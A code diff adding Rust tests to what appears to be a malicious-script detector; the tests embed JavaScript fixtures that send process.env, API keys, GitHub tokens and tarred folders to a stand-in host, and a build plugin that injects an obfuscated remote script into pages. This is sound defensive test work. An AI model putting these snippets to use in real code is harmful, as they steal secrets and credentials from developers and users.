@@ -3,7 +3,9 @@
 
 use super::reached::{has, has_not};
 use super::{command, outcome, rules};
+use crate::analyze::script::How;
 use crate::analyze::script::event::{Act, When};
+use crate::model::FileKind;
 use crate::parse::script::Language::{JavaScript, Php, Python};
 
 #[test]
@@ -193,4 +195,90 @@ fn completions_in_a_start_up_file_are_welcome() {
                 f.write('\\n# completion\\neval \"$(register-python-argcomplete tool)\"\\n')\n";
     assert!(!rules(Python, code).contains(&"flow-persists"));
     assert!(rules(Python, &code.replace("register-python-argcomplete", "fetch-it")).contains(&"flow-persists"));
+}
+
+#[test]
+fn settings_of_a_runner_of_tests_name_what_it_calls() {
+    let files = [
+        (
+            "preset.js",
+            FileKind::JavaScript,
+            "module.exports = { globalSetup: require.resolve('./setup'), globalTeardown: require.resolve('./after') };",
+        ),
+        (
+            "setup.js",
+            FileKind::JavaScript,
+            "module.exports = async () => { globalThis.__S__ = { vars: { ...process.env } }; };",
+        ),
+        (
+            "after.js",
+            FileKind::JavaScript,
+            "module.exports = async () => { const s = globalThis.__S__; \
+             await fetch('https://h.invalid/r', { method: 'POST', body: JSON.stringify(s.vars) }); };",
+        ),
+    ];
+    let found = |files: &[(&str, FileKind, &str)]| super::recreated::among(files, How::default());
+    assert!(found(&files).contains(&"flow-environment-sent"));
+    let renamed = files[0].2.replace("globalTeardown", "coverage");
+    assert!(found(&[(files[0].0, files[0].1, &renamed), files[1], files[2]]).is_empty());
+}
+
+#[test]
+fn keys_that_go_where_the_time_zone_says_are_told() {
+    let code = "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n\
+                const base = () => { if (tz.startsWith('Asia')) return 'https://edge.h.invalid/v1'; return 'https://api.openai.com/v1'; };\n\
+                exports.ask = async (q) => (await fetch(base() + '/chat', { method: 'POST', \
+                headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY }, body: q })).json();";
+    has(JavaScript, code, "flow-key-routed-by-place");
+    has_not(JavaScript, &code.replace("tz.startsWith('Asia')", "q === 1"), "flow-key-routed-by-place");
+    has_not(JavaScript, &code.replace("process.env.OPENAI_API_KEY", "'none'"), "flow-key-routed-by-place");
+}
+
+#[test]
+fn parts_of_an_address_are_those_of_the_address() {
+    let code = "const u = new URL('https://key@h.invalid/12');\n\
+                fetch(`${u.origin}/api${u.pathname}/store`, { method: 'POST', headers: { k: u.username }, body: JSON.stringify(process.env) });";
+    let sent = outcome(JavaScript, code).events.iter().find(|e| e.act == Act::Send).and_then(|e| e.subject.clone());
+    assert_eq!(sent.as_deref(), Some("https://h.invalid/api/12/store"));
+}
+
+#[test]
+fn keys_that_are_found_by_their_form_may_be_shown_to_who_gave_them_out() {
+    let code = "exports.check = async (text) => { for (const m of text.matchAll(/\\b(gh[pousr]_[A-Za-z0-9]{36,})\\b/g)) \
+                await fetch('https://h.invalid/user', { method: 'POST', headers: { authorization: 'Bearer ' + m[1] } }); };";
+    has(JavaScript, code, "flow-key-sent");
+    has_not(JavaScript, &code.replace("h.invalid", "api.github.com"), "flow-key-sent");
+    has_not(JavaScript, &code.replace("gh[pousr]_[A-Za-z0-9]{36,}", "[a-z]+"), "flow-key-sent");
+}
+
+#[test]
+fn scripts_with_a_decoded_address_that_go_into_pages_are_told() {
+    let code = "const A = [104,116,116,112,115,58,47,47,104,46,105,110,118,97,108,105,100,47,109,46,106,115].map((n) => String.fromCharCode(n)).join('');\n\
+                export default () => ({ generateBundle(_, bundle) { for (const a of Object.values(bundle)) \
+                a.source = String(a.source).replace('</head>', `<${['pt','ri','sc'].reverse().join('')} src=\"${A}\"></head>`); } });";
+    let told = |code: &str| {
+        let outcome = outcome(JavaScript, code);
+        crate::analyze::script::told::covert_among(&outcome, code).iter().any(|f| f.rule.id == "script-hidden-loader")
+    };
+    assert!(told(code));
+    assert!(!told(&code.replace("</head>", "</x>")));
+    assert!(!told(&code.replace("46,106,115]", "46,112,110,103]")));
+}
+
+#[test]
+fn a_folder_that_somebody_names_may_be_packed_and_carried_away() {
+    let code = "const { execFileSync } = require('child_process');\n\
+                exports.deploy = async (dir) => { const tar = execFileSync('tar', ['czf', '-', '-C', dir, '.']); \
+                await fetch('https://api.h.invalid/v1', { method: 'POST', body: tar }); };";
+    let severity = |code: &str| {
+        let outcome = outcome(JavaScript, code);
+        let flows = crate::analyze::script::flows::judge(&outcome, false);
+        flows.iter().find(|f| f.rule.id == "flow-output-sent").map(|f| f.severity.unwrap_or(f.rule.severity))
+    };
+    assert_eq!(severity(code), Some(crate::model::Severity::Medium));
+    assert_eq!(severity(&code.replace("'-C', dir, '.'", "'/etc'")), Some(crate::model::Severity::High));
+    assert_eq!(
+        severity(&code.replace("exports.deploy", "const w = execFileSync('whoami');\nexports.deploy")),
+        Some(crate::model::Severity::High)
+    );
 }
